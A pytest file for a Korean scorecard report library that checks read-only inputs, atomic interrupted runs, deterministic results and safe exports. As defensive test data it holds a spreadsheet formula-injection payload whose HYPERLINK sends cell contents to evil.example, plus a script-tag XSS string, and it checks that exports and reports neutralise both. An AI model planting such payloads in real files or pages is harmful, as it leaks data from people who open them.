"""Nothing lost, nothing leaked: inputs untouched, atomic runs, determinism, safe outputs.

* Inputs are opened read-only and never changed: an audit hook records every ``open`` of a
  file under the input folder during load / validate / report, and hashes are compared.
* A run killed half way (SIGINT or SIGTERM to ``bsc report`` while a notebook runs) leaves
  no folder that looks complete; two runs started at once write two folders.
* An output folder that cannot be created gives a clear error (exit 2), not a traceback.
* Same inputs and parameters give identical result tables, also with input rows reordered.
* Names cannot inject formulas into exports or markup into reports; the manifest and the
  library's logs hold no personal data.

The runs use small notebooks written here and a small ``tables_fn`` (the scores), injected
through the pipeline's parameters or, for the real command line, through a driver that
replaces the default notebooks and result tables before calling ``bsc_lib.cli.main``.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import logging
import os
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import nbformat
import numpy as np
import openpyxl
import pandas as pd
import pytest

from bsc_lib.config.scheme import default_scheme_path, load_scheme
from bsc_lib.data import sample
from bsc_lib.data.io import load, read_tables
from bsc_lib.data.validate import validate
from bsc_lib.errors import BSCError
from bsc_lib.present.export import table_sha256, write_csvs, write_results_xlsx
from bsc_lib.runs.pipeline import OutputError, read_manifest, run_report
from bsc_lib.scoring.engine import evaluate

TESTS = Path(__file__).resolve().parent
REPO = TESTS.parent
MINIMAL = TESTS / "data" / "io" / "minimal"
BAD = TESTS / "bad_inputs" / "cases"
SAMPLE = REPO / "data" / "sample" / "2019"
SCHEME_PATH = default_scheme_path()
SCHEME = load_scheme(SCHEME_PATH)
#: Names given to the minimal dataset's two managers (personal data that must not leak).
NAMES = ("김민준", "이서연")
INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"클릭")'
SCRIPT = "<script>alert(1)</script>"


# --------------------------------------------------------------------------- helpers


def _tree_state(root: Path) -> dict[str, tuple[str, int]]:
    """``{relative path: (sha256, mtime_ns)}`` of every file under ``root`` (or ``root`` itself)."""
    files = [root] if root.is_file() else sorted(p for p in root.rglob("*") if p.is_file())
    return {p.relative_to(root.parent).as_posix(): (hashlib.sha256(p.read_bytes()).hexdigest(),
                                                    p.stat().st_mtime_ns) for p in files}


_WRITE_FLAGS = os.O_WRONLY | os.O_RDWR | os.O_CREAT | os.O_TRUNC | os.O_APPEND
_OPENS: list[tuple[str, object, int]] | None = None


def _audit(event: str, args: tuple) -> None:
    if _OPENS is not None and event == "open":
        path, mode, flags = args
        _OPENS.append((str(path), mode, flags if isinstance(flags, int) else 0))


sys.addaudithook(_audit)  # inert (one None check) unless a test is recording


class _OpenRecorder:
    """Record every file open of the process while active (``sys.addaudithook``)."""

    def __enter__(self) -> list[tuple[str, object, int]]:
        global _OPENS
        _OPENS = []
        return _OPENS

    def __exit__(self, *exc) -> None:
        global _OPENS
        _OPENS = None


def _writes_under(opens, root: Path) -> list[tuple[str, object, int]]:
    """Opens of files under ``root`` with a writing mode or flag."""
    root_s = str(root.resolve())
    out = []
    for path, mode, flags in opens:
        try:
            p = str(Path(path).resolve())
        except (OSError, TypeError, ValueError):
            continue
        if not p.startswith(root_s):
            continue
        if (isinstance(mode, str) and any(ch in mode for ch in "wax+")) or flags & _WRITE_FLAGS:
            out.append((path, mode, flags))
    return out


def _minimal_with_names(dest: Path) -> Path:
    """The minimal dataset with the managers' names filled in (people.csv)."""
    shutil.copytree(MINIMAL, dest)
    people = pd.read_csv(dest / "people.csv", dtype=str, keep_default_na=False)
    people["name_ko"] = list(NAMES)
    people.to_csv(dest / "people.csv", index=False, lineterminator="\n")
    return dest


def _notebook(path: Path, code: str) -> Path:
    nb = nbformat.v4.new_notebook()
    params = nbformat.v4.new_code_cell(
        'data_path = ""\nscheme_path = ""\nyear = 2019\nhalf = "year"\nlang = "ko"\nrun_dir = ""')
    params.metadata["tags"] = ["parameters"]
    nb.cells = [nbformat.v4.new_markdown_cell("# 시험 노트북 Test notebook"), params,
                nbformat.v4.new_code_cell(code)]
    nb.metadata["kernelspec"] = {"display_name": "Python 3", "language": "python", "name": "python3"}
    nbformat.write(nb, path)
    return path


def score_tables(data_path, scheme_path, year, half) -> dict[str, pd.DataFrame]:
    """A small ``tables_fn``: the scores (the people table carries their names)."""
    scheme = load_scheme(scheme_path)
    data = load(data_path, scheme=scheme)
    res = evaluate(data, scheme, year=year, half=half)
    people = res.individual.merge(data.people[["person_id", "name_ko"]], on="person_id", how="left",
                                  suffixes=("", "_input"))
    return {"institutional": res.institutional, "departments": res.departments, "individual": people}


# --------------------------------------------------------------------------- inputs are never changed


@pytest.mark.parametrize("case", ["minimal", "xlsx_formula_cached_valid.xlsx", "plan_form_two_row_header_valid.xlsx",
                                  "encoding_cp949_valid", "very_long_name", "xlsx_truncated.xlsx"])
def test_load_and_validate_open_inputs_read_only_and_change_nothing(case, tmp_path):
    src = MINIMAL if case == "minimal" else BAD / case
    data = tmp_path / src.name
    if src.is_dir():
        shutil.copytree(src, data)
    else:
        shutil.copy2(src, data)
    before = _tree_state(data)
    with _OpenRecorder() as opens:
        validate(data, SCHEME)
        try:
            load(data, SCHEME)
        except BSCError:
            pass
        read_tables(data)
    assert _tree_state(data) == before
    reads = [o for o in opens if str(Path(o[0]).resolve()).startswith(str(data.resolve()))]
    assert reads, "the recorder saw no open of the input"  # the hook works
    assert _writes_under(opens, data) == []
    assert sorted(p.name for p in tmp_path.iterdir()) == [data.name]  # nothing written next to it


def test_report_leaves_inputs_untouched_and_manifest_free_of_personal_data(tmp_path):
    data = _minimal_with_names(tmp_path / "data")
    scheme = tmp_path / "scheme.yaml"
    shutil.copy2(SCHEME_PATH, scheme)
    nb = _notebook(tmp_path / "01-quick.ipynb", "x = 1 + 1")
    before = {**_tree_state(data), **_tree_state(scheme)}
    with _OpenRecorder() as opens:
        run_dir = run_report(data, scheme, out=tmp_path / "out", notebooks=[nb], tables_fn=score_tables,
                             progress=False, pdf=False)
    assert {**_tree_state(data), **_tree_state(scheme)} == before
    assert _writes_under(opens, data) == [] and _writes_under(opens, scheme) == []
    m = read_manifest(run_dir)
    assert m["status"] == "complete"
    # the manifest identifies the inputs by hash …
    assert m["inputs"]["files"]["people.csv"] == hashlib.sha256((data / "people.csv").read_bytes()).hexdigest()
    assert m["scheme"]["sha256"] == hashlib.sha256(scheme.read_bytes()).hexdigest()
    # … and holds no personal data, although a result table carries the names
    text = (run_dir / "manifest.json").read_text(encoding="utf-8")
    people = pd.read_csv(run_dir / "tables" / "individual.csv", dtype=str)
    assert set(NAMES) <= set(people["name_ko_input"])
    for name in NAMES:
        assert name not in text


# --------------------------------------------------------------------------- atomic runs

#: Runs ``bsc report`` (bsc_lib.cli.main) with the notebooks and result tables replaced.
DRIVER = r"""
import importlib.machinery, json, sys, types
from pathlib import Path
sys.path.insert(0, {tests!r})
import bsc_lib.runs.pipeline as pipeline
from test_nothing_lost import score_tables
args = json.loads(sys.argv[1])
pipeline.default_notebooks = lambda root=None: [Path(p) for p in args["notebooks"]]
tables = types.ModuleType("bsc_lib.analyses.recipes")
tables.__spec__ = importlib.machinery.ModuleSpec("bsc_lib.analyses.recipes", None)
tables.result_tables = score_tables
sys.modules["bsc_lib.analyses.recipes"] = tables
pipeline.print_pdf = lambda *a, **k: "skipped: test"
from bsc_lib.cli import main
sys.exit(main(["report", "--data", args["data"], "--scheme", args["scheme"], "--out", args["out"]]))
"""


def _ignore_sigint() -> None:
    signal.signal(signal.SIGINT, signal.SIG_IGN)


def _start_report(tmp_path: Path, data: Path, out: Path, notebooks: list[Path], *,
                  sigint_ignored: bool = False) -> subprocess.Popen:
    """``bsc report`` in a subprocess; ``sigint_ignored`` starts it the way a shell without job
    control starts a background command (``make test &`` in a script, CI): SIGINT ignored."""
    args = {"data": str(data), "scheme": str(SCHEME_PATH), "out": str(out), "notebooks": [str(p) for p in notebooks]}
    return subprocess.Popen(
        [sys.executable, "-c", DRIVER.format(tests=str(TESTS)), json.dumps(args)], cwd=tmp_path,
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, encoding="utf-8",
        start_new_session=True,  # its own process group: the kernel it starts can be cleaned up by id
        preexec_fn=_ignore_sigint if sigint_ignored else None,
    )


def _reap(proc: subprocess.Popen, timeout: float = 180) -> tuple[str, str]:
    try:
        out, err = proc.communicate(timeout=timeout)
    finally:
        try:
            os.killpg(proc.pid, signal.SIGKILL)  # the group this test started (a leftover kernel)
        except (ProcessLookupError, PermissionError):
            pass
    return out, err


def _manifests(root: Path) -> list[dict]:
    out = []
    for p in root.rglob("manifest.json"):
        out.append(json.loads(p.read_text(encoding="utf-8")))
    return out


@pytest.mark.slow
@pytest.mark.parametrize(("sig", "sigint_ignored"),
                         [(signal.SIGINT, False), (signal.SIGTERM, False), (signal.SIGINT, True)],
                         ids=["SIGINT", "SIGTERM", "SIGINT-started-ignored"])
def test_report_killed_during_a_notebook_never_looks_complete(tmp_path, sig, sigint_ignored):
    # "SIGINT-started-ignored": a process started as a background job by a shell without job
    # control inherits SIGINT ignored, and Python then keeps it ignored; the run must still stop.
    data = _minimal_with_names(tmp_path / "data")
    marker = tmp_path / "notebook-started"
    nb = _notebook(tmp_path / "01-slow.ipynb",
                   f"import pathlib, time\npathlib.Path({str(marker)!r}).write_text('x')\ntime.sleep(120)")
    out = tmp_path / "out"
    proc = _start_report(tmp_path, data, out, [nb], sigint_ignored=sigint_ignored)
    try:
        deadline = time.monotonic() + 150  # a hang guard only: the kernel may start slowly
        while not marker.exists():
            assert proc.poll() is None, proc.communicate()
            assert time.monotonic() < deadline, "the notebook never started"
            time.sleep(0.1)
        proc.send_signal(sig)
    finally:
        stdout, stderr = _reap(proc)
    assert proc.returncode == 130, stderr
    assert "interrupted" in stderr and "Traceback" not in stderr
    entries = sorted((out / "2019").iterdir())
    assert entries, "the run left nothing to inspect"
    assert all(e.name.endswith("-FAILED") or e.name.startswith(".tmp-") for e in entries), entries
    assert all(m["status"] != "complete" for m in _manifests(out))
    failed = [e for e in entries if e.name.endswith("-FAILED")]
    assert failed and read_manifest(failed[0])["error"]["type"] == "interrupted"


@pytest.mark.slow
def test_ctrl_c_stops_both_notebooks_running_at_once(tmp_path):
    # the report executes two notebooks at a time (pipeline.NOTEBOOK_WORKERS): a Ctrl-C ends both
    # kernels' cells, not only the main thread's wait, and no third notebook starts
    data = _minimal_with_names(tmp_path / "data")
    markers = [tmp_path / f"started-{i}" for i in range(2)]
    nbs = [_notebook(tmp_path / f"0{i + 1}-slow.ipynb",
                     f"import pathlib, time\npathlib.Path({str(m)!r}).write_text('x')\ntime.sleep(120)")
           for i, m in enumerate(markers)]
    nbs.append(_notebook(tmp_path / "03-quick.ipynb", "x = 1"))
    out = tmp_path / "out"
    proc = _start_report(tmp_path, data, out, nbs)
    try:
        deadline = time.monotonic() + 150  # a hang guard only: kernels may start slowly
        while not all(m.exists() for m in markers):
            assert proc.poll() is None, proc.communicate()
            assert time.monotonic() < deadline, "the notebooks never started"
            time.sleep(0.1)
        proc.send_signal(signal.SIGINT)
    finally:
        stdout, stderr = _reap(proc)
    assert proc.returncode == 130, stderr
    (failed,) = [e for e in (out / "2019").iterdir() if e.name.endswith("-FAILED")]
    m = read_manifest(failed)
    assert m["error"]["type"] == "interrupted"
    # both cells were stopped (a finished 120 s cell would be "ok"), the third never started
    assert [n["status"] for n in m["notebooks"]] == ["failed", "failed", "not run"]


@pytest.mark.slow
def test_two_runs_started_at_once_write_two_complete_folders(tmp_path):
    data = _minimal_with_names(tmp_path / "data")
    nb = _notebook(tmp_path / "01-quick.ipynb", "x = 2 * 21")
    out = tmp_path / "out"
    before = _tree_state(data)
    procs = [_start_report(tmp_path, data, out, [nb]) for _ in range(2)]
    results = [_reap(p) for p in procs]
    for p, (_stdout, stderr) in zip(procs, results, strict=True):
        assert p.returncode == 0, stderr
        assert "Traceback" not in stderr
    done = sorted(Path(line.split("report complete: ", 1)[1].strip())
                  for stdout, _ in results for line in stdout.splitlines() if "report complete: " in line)
    assert len(done) == 2 and done[0] != done[1]
    assert sorted(e.name for e in (out / "2019").iterdir()) == [d.name for d in done]
    ms = [read_manifest(d) for d in done]
    assert all(m["status"] == "complete" for m in ms)
    assert ms[0]["tables"] == ms[1]["tables"]  # same inputs, same result tables
    assert _tree_state(data) == before


def test_unwritable_output_folder_is_a_clear_error(tmp_path, monkeypatch, capsys):
    # Tests run as root, for whom chmod does not block writing: a path *under a regular file*
    # fails for everyone (ENOTDIR).
    blocker = tmp_path / "outputs-is-a-file"
    blocker.write_text("not a folder", encoding="utf-8")
    nb = _notebook(tmp_path / "01-quick.ipynb", "x = 1")
    with pytest.raises(OutputError) as info:
        run_report(MINIMAL, SCHEME_PATH, out=blocker / "outputs", notebooks=[nb], tables_fn=score_tables,
                   progress=False, pdf=False)
    p = info.value.problems[0]
    assert p.rule == "output folder" and "cannot create the run folder" in p.message
    assert "Not a directory" in p.message
    # the same through the command line: exit 2 and the problem, no traceback
    import bsc_lib.runs.pipeline as pipeline
    from bsc_lib.cli import main

    monkeypatch.setattr(pipeline, "default_notebooks", lambda root=None: [nb])
    monkeypatch.setattr(pipeline, "default_tables_fn", score_tables)
    code = main(["report", "--data", str(MINIMAL), "--out", str(blocker / "outputs")])
    err = capsys.readouterr().err
    assert code == 2, err
    assert "cannot create the run folder" in err and "Traceback" not in err
    assert blocker.read_text(encoding="utf-8") == "not a folder"


# --------------------------------------------------------------------------- determinism


def _shuffled_copy(src: Path, dest: Path, seed: int) -> Path:
    """Every CSV of ``src`` with its data rows in a random (seeded) order."""
    rng = np.random.default_rng(seed)
    dest.mkdir()
    for f in sorted(src.glob("*.csv")):
        with f.open(encoding="utf-8-sig", newline="") as fh:
            rows = list(csv.reader(fh))
        body = [rows[1:][i] for i in rng.permutation(len(rows) - 1)]
        buf = io.StringIO()
        csv.writer(buf, lineterminator="\n").writerows([rows[0], *body])
        (dest / f.name).write_text(buf.getvalue(), encoding="utf-8")
    return dest


def _result_hashes(data) -> dict[str, str]:
    res = evaluate(data, SCHEME)
    frames = {n: getattr(res, n) for n in ("institutional", "individual", "departments", "components",
                                           "kpi", "flags", "integrity", "details")}
    return {n: table_sha256(df) for n, df in frames.items()}


@pytest.fixture(scope="module")
def small_sample(tmp_path_factory) -> Path:
    return sample.write_sample(tmp_path_factory.mktemp("sample") / "2019", scale=0.05)


def test_same_inputs_same_tables_also_with_rows_reordered(small_sample, tmp_path):
    shuffled = _shuffled_copy(small_sample, tmp_path / "shuffled", seed=20190201)
    assert sorted(p.name for p in shuffled.iterdir()) == sorted(p.name for p in small_sample.glob("*.csv"))
    # the reading layer: each table has the same content whatever the row order
    frames_a, probs_a, _ = read_tables(small_sample)
    frames_b, probs_b, _ = read_tables(shuffled)
    assert probs_a == [] and probs_b == []
    assert {n: table_sha256(f) for n, f in frames_a.items()} == {n: table_sha256(f) for n, f in frames_b.items()}
    # the scores: a second run and a run on the reordered rows give identical tables
    first = _result_hashes(load(small_sample, SCHEME))
    assert _result_hashes(load(small_sample, SCHEME)) == first
    assert _result_hashes(load(shuffled, SCHEME)) == first


# --------------------------------------------------------------------------- nothing leaked


def test_formula_injection_name_flows_through_load_and_scores_to_neutralised_exports(tmp_path):
    data = load(BAD / "formula_injection_name_valid", SCHEME)
    names = data.departments.set_index("department_id")["name_ko"]
    assert names["D002"] == INJECTION  # loaded as text, unchanged
    res = evaluate(data, SCHEME)
    assert INJECTION in set(res.departments["name_ko"])
    tables = {"departments": res.departments, "input_departments": data.departments}
    (csv_path,) = [p for p in write_csvs(tables, tmp_path / "tables") if p.stem == "departments"]
    text = csv_path.read_text(encoding="utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert "'" + INJECTION in cells and INJECTION not in cells
    book = write_results_xlsx(tables, tmp_path / "results.xlsx")
    wb = openpyxl.load_workbook(book)
    values = [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert "'" + INJECTION in values
    assert not any(isinstance(v, str) and v.startswith("=") for v in values)
    wb.close()
    # the formula-free workbook keeps the raw input intact: the input file is unchanged
    assert (BAD / "formula_injection_name_valid" / "departments.csv").read_text(encoding="utf-8").count(
        INJECTION.replace('"', '""')) == 1


def test_script_name_is_escaped_in_tables_and_the_report():
    from bsc_lib.present.notebook import table_html
    from bsc_lib.present.report_html import build_report_html

    data = load(BAD / "script_name_valid", SCHEME)
    assert SCRIPT in set(data.departments["name_ko"])
    html_table = table_html(data.departments)  # what bsc_lib.present.notebook.show displays
    assert SCRIPT not in html_table
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html_table
    nb = nbformat.v4.new_notebook()
    shown = nbformat.v4.new_code_cell("show(departments)")
    shown.outputs = [nbformat.v4.new_output("display_data", data={"text/html": html_table}),
                     nbformat.v4.new_output("stream", name="stdout", text=f"부서: {SCRIPT}\n")]
    careless = nbformat.v4.new_code_cell("HTML(name)")  # a notebook that forgot to escape
    careless.outputs = [nbformat.v4.new_output("display_data", data={"text/html": f"<p>{SCRIPT}</p>"})]
    nb.cells = [nbformat.v4.new_markdown_cell(f"# 부서 {SCRIPT}"), shown, careless]
    doc = build_report_html([("01-test.ipynb", nb)], title=f"보고서 {SCRIPT}", meta=[("부서", SCRIPT)])
    assert "<script>alert(1)" not in doc
    assert "alert(1)" in doc  # still shown as text, escaped


def test_library_logs_hold_no_personal_data(caplog):
    names = set(pd.read_csv(SAMPLE / "people.csv", dtype=str)["name_ko"].dropna())
    assert len(names) > 100
    with caplog.at_level(logging.DEBUG):
        data = load(SAMPLE, SCHEME)
        evaluate(data, SCHEME)
        evaluate(data, SCHEME, half="H1")
    records = [r for r in caplog.records if r.name.startswith("bsc_lib")]
    assert records, "no library log records were captured"
    text = "\n".join(r.getMessage() for r in caplog.records)
    leaked = sorted(n for n in names if n in text)
    assert leaked == []
